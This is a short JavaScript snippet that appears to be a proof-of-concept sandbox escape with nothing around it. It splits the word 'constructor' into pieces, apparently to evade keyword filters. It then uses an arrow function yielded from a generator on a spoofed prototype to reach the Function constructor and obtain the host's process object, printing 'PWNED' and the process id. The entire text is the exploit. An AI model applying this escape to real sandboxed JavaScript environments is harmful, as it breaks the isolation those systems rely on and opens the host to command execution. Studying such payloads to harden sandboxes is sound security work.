const w = ['con', 'structor'].join('');
class G { *[Symbol.iterator]() { yield (x) => x; } }
const o = Object.setPrototypeOf({}, G.prototype);
for (const f of o) console.log('PWNED', f[w]('return process')().pid);
